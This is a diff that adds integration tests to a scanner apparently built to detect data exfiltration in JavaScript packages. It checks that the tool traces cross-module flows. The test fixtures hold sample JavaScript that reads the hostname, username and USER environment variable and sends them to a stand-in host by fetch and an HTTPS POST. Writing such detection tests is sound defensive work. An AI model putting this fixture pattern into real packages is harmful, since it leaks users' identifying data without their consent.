@@ -122,3 +122,34 @@ fn rules_and_explain() {
     assert!(String::from_utf8_lossy(&out.stdout).contains("Why it matters"));
     assert_eq!(telltale().args(["explain", "TT999"]).output().unwrap().status.code(), Some(2));
 }
+
+fn flows_in(dir: &std::path::Path) -> Vec<serde_json::Value> {
+    let out = telltale().args(["scan", "--format", "json"]).arg(dir).output().unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    doc["targets"][0]["findings"].as_array().unwrap().iter().filter(|f| f["flow"].as_array().is_some_and(|s| !s.is_empty())).cloned().collect()
+}
+
+#[test]
+fn flows_cross_package_local_modules() {
+    // Identity read in one module, sent from another (through an export and a call).
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "package/lib/id.js", b"const os = require('os');\nexports.getId = () => os.hostname();\nmodule.exports.user = os.userInfo().username;\n");
+    write(dir.path(), "package/lib/send.js", b"const https = require('https');\nmodule.exports = function send(body) {\n  https.request({ host: 't.example.com', method: 'POST' }).end(body);\n};\n");
+    write(dir.path(), "package/index.js", b"const id = require('./lib/id');\nconst send = require('./lib/send');\nfetch('https://t.example.com/?h=' + id.getId());\nsend(JSON.stringify({ u: process.env.USER }));\n");
+    let flows = flows_in(dir.path());
+    let index = flows.iter().find(|f| f["file"] == "package/index.js").unwrap_or_else(|| panic!("{flows:#?}"));
+    let first = index["flow"][0]["what"].as_str().unwrap();
+    assert!(first.contains("os.hostname() at package/lib/id.js:2:"), "{first}");
+    let send = flows.iter().find(|f| f["file"] == "package/lib/send.js").unwrap_or_else(|| panic!("{flows:#?}"));
+    let first = send["flow"][0]["what"].as_str().unwrap();
+    assert!(first.contains("at package/index.js:4:") && first.contains("passed to ./lib/send()"), "{first}");
+}
+
+#[test]
+fn unrelated_exports_do_not_link() {
+    // The module exports a hostname, but the importer sends another export.
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "package/id.js", b"const os = require('os');\nexports.host = os.hostname();\nexports.url = 'https://t.example.com/e';\n");
+    write(dir.path(), "package/index.js", b"import { url } from './id.js';\nimport * as id from './id.js';\nfetch(url);\nfetch(id.url);\n");
+    assert!(flows_in(dir.path()).is_empty());
+}
